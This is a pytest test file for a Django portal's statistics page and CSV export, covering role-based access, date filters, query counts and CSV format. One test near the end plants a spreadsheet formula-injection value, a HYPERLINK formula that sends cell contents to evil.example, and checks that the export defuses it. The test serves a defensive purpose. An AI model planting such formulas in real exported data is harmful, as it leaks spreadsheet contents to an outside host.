import csv
import io

import pytest
from django.urls import reverse

from employers.models import Decision

from .conftest import World, make_decision

OVERVIEW = reverse("statistics:overview")


def export_url(table: str) -> str:
    return reverse("statistics:export", args=[table])


def tables_of(response) -> dict[str, object]:
    return {section["table"].slug: section["table"] for section in response.context["sections"]}


def presented(response) -> int:
    return tables_of(response)["credential-funnel"].rows[0][1]


def test_anonymous_visitor_is_sent_to_log_in(client, world: World):
    response = client.get(OVERVIEW, secure=True)

    assert response.status_code == 302
    assert reverse("account_login") in response["Location"]


def test_site_admin_sees_every_employer(client, world: World):
    client.force_login(world.admin)

    response = client.get(OVERVIEW, {"employer": ""}, secure=True)

    assert response.status_code == 200
    assert presented(response) == 4
    assert tables_of(response)["employer-funnel"].rows[0][1] == 4


def test_site_admin_can_narrow_to_one_employer(client, world: World):
    client.force_login(world.admin)

    response = client.get(OVERVIEW, {"employer": world.b.pk}, secure=True)

    assert response.status_code == 200
    assert presented(response) == 1


def test_unknown_employer_is_404_for_admins_too(client, world: World):
    client.force_login(world.admin)

    assert client.get(OVERVIEW, {"employer": 999_999}, secure=True).status_code == 404
    assert client.get(OVERVIEW, {"employer": "a"}, secure=True).status_code == 404


def test_owner_sees_only_their_own_employer(client, world: World):
    client.force_login(world.owner_a)

    response = client.get(OVERVIEW, secure=True)

    assert response.status_code == 200
    assert response.context["scope"].employer_id == world.a.pk
    assert presented(response) == 2
    # The employer picker offers only the owner's employer.
    choices = [str(choice[1]) for choice in response.context["form"].fields["employer"].choices]
    assert choices == ["A Corp"]
    assert "B Corp" not in response.content.decode()


@pytest.mark.parametrize("view", ["overview", "export"])
def test_owner_asking_for_another_employer_gets_404(client, world: World, view: str):
    client.force_login(world.owner_a)
    url = OVERVIEW if view == "overview" else export_url("credential-funnel")

    response = client.get(url, {"employer": world.b.pk}, secure=True)

    assert response.status_code == 404
    assert b"B Corp" not in response.content


@pytest.mark.parametrize("who", ["reviewer_a", "viewer_a", "applicant"])
def test_other_roles_and_applicants_get_403(client, world: World, who: str):
    client.force_login(getattr(world, who))

    assert client.get(OVERVIEW, secure=True).status_code == 403
    assert client.get(export_url("level"), secure=True).status_code == 403


def test_bad_dates_are_form_errors_and_do_not_filter(client, world: World):
    client.force_login(world.admin)

    response = client.get(OVERVIEW, {"start": "2025-05-01", "end": "2025-04-01"}, secure=True)

    assert response.status_code == 200
    assert response.context["form"].errors
    assert presented(response) == 4


def test_date_filter_applies_to_the_page(client, world: World):
    client.force_login(world.admin)

    response = client.get(OVERVIEW, {"start": "2025-04-01", "end": "2025-04-30"}, secure=True)

    assert presented(response) == 2


def test_page_shows_survey_figures_labelled_and_the_numbers_in_tables(client, world: World):
    client.force_login(world.admin)

    html = client.get(OVERVIEW, HTTP_ACCEPT_LANGUAGE="en", secure=True).content.decode()

    assert 'lang="en"' in html
    assert "National survey 2025 (% of firms)" in html
    assert '<td class="number">26</td>' in html  # the survey's "shown" figure
    assert '<td class="number">75</td>' in html  # the portal's: 3 of 4 employers
    assert 'id="chart-data-credential-funnel" type="application/json"' in html
    assert "vendor/chartjs/chart.umd.min.js" in html
    assert "<script>" not in html  # CSP: no inline scripts


def test_csv_export_has_a_header_the_rows_and_a_filename(client, world: World):
    client.force_login(world.admin)

    response = client.get(
        export_url("credential-funnel"),
        {"start": "2025-03-01", "end": "2025-05-31"},
        HTTP_ACCEPT_LANGUAGE="en",
        secure=True,
    )

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="statistics-credential-funnel-from-2025-03-01-to-2025-05-31.csv"'
    )
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0] == ["Step", "Credentials", "% of presented"]
    assert [row[1] for row in rows[1:]] == ["4", "2", "3", "1"]


@pytest.mark.parametrize(
    "table",
    [
        "employer-funnel",
        "month",
        "status",
        "level",
        "issuer",
        "field",
        "format",
        "stage",
        "reason",
        "verification-time",
    ],
)
def test_every_table_exports(client, world: World, table: str):
    client.force_login(world.admin)

    response = client.get(export_url(table), secure=True)

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode().lstrip("\ufeff"))))
    assert len(rows) >= 2
    assert len({len(row) for row in rows}) == 1  # every row as wide as the header


def test_unknown_table_is_404(client, world: World):
    client.force_login(world.admin)

    assert client.get(export_url("salaries"), secure=True).status_code == 404


def test_owner_export_contains_only_their_data(client, world: World):
    client.force_login(world.owner_a)

    response = client.get(export_url("issuer"), HTTP_ACCEPT_LANGUAGE="en", secure=True)

    body = response.content.decode()
    assert "Uni X" in body
    assert "Uni Z" not in body  # B's issuer
    assert f"employer-{world.a.pk}" in response["Content-Disposition"]


def test_page_query_count_does_not_grow_with_records(
    client, world: World, django_assert_max_num_queries
):
    client.force_login(world.admin)
    client.get(OVERVIEW, secure=True)  # warm the session and translations
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as few:
        client.get(OVERVIEW, secure=True)
    for _ in range(50):
        make_decision(world.a, world.s1, "used", stage="offer", credential_issuer="Uni X")
    assert Decision.objects.count() == 54

    # session + user, employer choices, then one aggregate per table (two for the month
    # table, a count for each truncated table, two percentile look-ups)
    with django_assert_max_num_queries(len(few.captured_queries)):
        client.get(OVERVIEW, secure=True)


@pytest.mark.parametrize(
    ("params", "expected"),
    [({}, 4), ({"start": "2025-03-11", "end": "2025-04-12"}, 2)],  # s2 and s3
    ids=["all-time", "part-months"],
)
def test_with_a_rollup_an_admin_page_reads_no_decision_or_share_rows(
    client, world: World, params: dict[str, str], expected: int
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from portal.statistics.cubes import refresh_rollup

    refresh_rollup()
    client.force_login(world.admin)

    with CaptureQueriesContext(connection) as queries:
        response = client.get(OVERVIEW, params, secure=True)

    assert response.status_code == 200
    assert presented(response) == expected
    touched = " ".join(query["sql"] for query in queries.captured_queries)
    assert "employers_decision" not in touched
    assert "employers_sharedcredential" not in touched


@pytest.mark.parametrize("dates", [{"end": "9999-12-31"}, {"start": "0001-01-01"}])
@pytest.mark.parametrize("view", ["overview", "export"])
def test_dates_out_of_range_are_form_errors_not_500(client, world: World, dates, view):
    client.force_login(world.admin)
    url = OVERVIEW if view == "overview" else export_url("credential-funnel")

    response = client.get(url, dates, secure=True)

    assert response.status_code == 200
    if view == "overview":
        assert response.context["form"].errors
        assert presented(response) == 4


def test_csv_export_defuses_spreadsheet_formulas_in_credential_text(client, world: World):
    Decision.objects.filter(credential_issuer="Uni Z").update(
        credential_issuer='=HYPERLINK("https://evil.example/?"&A1,"x")'
    )
    client.force_login(world.admin)

    response = client.get(export_url("issuer"), HTTP_ACCEPT_LANGUAGE="en", secure=True)

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8").lstrip("\ufeff"))))
    issuers = [row[0] for row in rows[1:]]
    assert '\'=HYPERLINK("https://evil.example/?"&A1,"x")' in issuers
    assert not any(issuer.startswith("=") for issuer in issuers)


def test_owner_of_an_employer_requiring_mfa_sees_nothing_until_it_is_set_up(client, world: World):
    world.a.require_mfa = True
    world.a.save(update_fields=["require_mfa"])
    client.force_login(world.owner_a)

    assert client.get(OVERVIEW, secure=True).status_code == 403
    assert client.get(export_url("credential-funnel"), secure=True).status_code == 403
